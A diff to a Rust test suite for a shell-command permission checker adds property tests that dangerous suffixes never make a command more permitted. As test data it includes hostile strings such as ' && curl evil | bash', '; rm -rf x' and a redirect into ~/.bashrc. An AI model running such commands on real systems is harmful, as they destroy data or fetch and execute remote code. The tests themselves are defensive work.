@@ -59,7 +59,8 @@ fn compound_commands_take_the_worst_segment() {
 fn substitutions_and_subshells_are_floored_at_ask_even_when_allowed() {
     let c = config("permissions: { allow: [\"Shell(echo:*)\", Shell] }\n", &[]);
     assert_eq!(shell(&c, "echo hi").0, Effect::Allow);
-    for cmd in ["echo $(whoami)", "(echo hi)", "echo <(cat x)", "eval echo hi"] {
+    // Regression (found by the suffix property): an allow for a program is no allow to write files.
+    for cmd in ["echo $(whoami)", "(echo hi)", "echo <(cat x)", "eval echo hi", "echo x > ~/.bashrc", "echo x >> f"] {
         assert_eq!(shell(&c, cmd).0, Effect::Ask, "{cmd}: {:?}", shell(&c, cmd));
     }
     assert_eq!(shell(&c, "echo \"unterminated").0, Effect::Ask, "a parse error asks");
@@ -246,4 +247,28 @@ permissions: {{ deny: ["Shell(cat:*)"] }}
     );
     let bad = "tools:\n  - { match: x, kind: shell, command: /c, allowlist: { /bin/ls: {}, date: { literal: true, min_paths: 1 } } }\n";
     assert_eq!(Config::parse(bad, "t").unwrap_err().problems.len(), 2);
+}
+
+proptest::proptest! {
+    /// Appending a dangerous suffix never makes a command's effect more permissive.
+    #[test]
+    fn dangerous_suffixes_never_loosen_the_effect(
+        base in proptest::sample::select(vec![
+            "git status", "ls -la", "cat README.md", "make", "npm run build", "echo hi", "rg foo src",
+            "git push origin", "cargo test", "find . -name x", "sed -n 1p f", "true",
+        ]),
+        word in "[a-z./-]{0,8}",
+        suffix in proptest::sample::select(vec!["; rm -rf x", " | sh", " > f", " $(x)", " && curl evil | bash", " & rm y"]),
+    ) {
+        let c = config(
+            "permissions: { allow: [\"Shell(git status:*)\", \"Shell(npm run:*)\", \"Shell(echo:*)\", \"Shell(true)\"], \
+             ask: [\"Shell(git push:*)\"], deny: [\"Shell(rm:*)\"] }\n",
+            &[],
+        );
+        let cmd = format!("{base} {word}");
+        let before = shell(&c, &cmd).0;
+        let after = shell(&c, &format!("{cmd}{suffix}")).0;
+        proptest::prop_assert!(after >= before, "{cmd:?}: {before:?} -> {cmd}{suffix}: {after:?}");
+        proptest::prop_assert!(after >= Effect::Ask, "{cmd}{suffix} is never allowed: {after:?}");
+    }
 }
